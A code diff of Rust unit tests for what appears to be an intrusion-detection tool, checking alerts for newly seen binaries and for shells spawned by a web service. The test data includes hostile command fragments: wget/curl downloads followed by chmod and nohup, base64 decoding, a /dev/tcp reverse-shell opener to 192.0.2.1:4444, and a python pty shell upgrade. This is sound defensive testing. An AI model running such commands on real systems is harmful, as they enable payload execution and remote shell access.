@@ -72,6 +72,26 @@ fn a_fresh_program_of_a_service_account_is_a_warning() {
 }
 
 #[test]
+fn a_program_is_fresh_for_ten_minutes() {
+    for (age_s, expected) in [(599, Warning), (600, Info)] {
+        let mut bench = Bench::new();
+        let mut id = file_id("/opt/tool");
+        // It is executed ten seconds after boot.
+        id.ctime_sec = BOOT_UNIX_S + 10 - age_s;
+        child_of(&mut bench, INIT, "/opt/tool", |exec| {
+            exec.uid = 33;
+            exec.executable.id = id;
+        });
+        bench.file(&crate::detect::testing::facts(
+            id,
+            "/opt/tool",
+            crate::input::Owner::Unowned,
+        ));
+        assert_eq!(said(&mut bench), [(NewBinary, expected)], "{age_s} s");
+    }
+}
+
+#[test]
 fn a_package_manager_excuses_what_it_runs() {
     let mut bench = Bench::new();
     let apt = key(800, T);
@@ -197,14 +217,26 @@ fn a_web_service_that_runs_a_shell_is_info_and_with_a_downloader_a_warning() {
         argv(exec, &["sh", "-c", "sendmail -t"]);
     });
     assert_eq!(said(&mut bench), [(WebServerSpawnedShell, Info)]);
-    let mut bench = Bench::new();
-    let web = self::web(&mut bench);
-    child_of(&mut bench, web, "/bin/sh", |exec| {
-        exec.args = b"sh\0-c\0cd /tmp; wget http://x/y && chmod +x y\0"
-            .as_slice()
-            .into();
-    });
-    assert_eq!(said(&mut bench), [(WebServerSpawnedShell, Warning)]);
+    for command in [
+        "cd /tmp; wget http://x/y",
+        "curl http://x/y",
+        "echo eA== | base64 -d",
+        "chmod +x y",
+        "exec 3<>/dev/tcp/192.0.2.1/4444",
+        "nohup ./y",
+        "python3 -c 'import pty; pty.spawn(1)'",
+    ] {
+        let mut bench = Bench::new();
+        let web = self::web(&mut bench);
+        child_of(&mut bench, web, "/bin/sh", |exec| {
+            argv(exec, &["sh", "-c", command]);
+        });
+        assert_eq!(
+            said(&mut bench),
+            [(WebServerSpawnedShell, Warning)],
+            "{command}"
+        );
+    }
 }
 
 #[test]
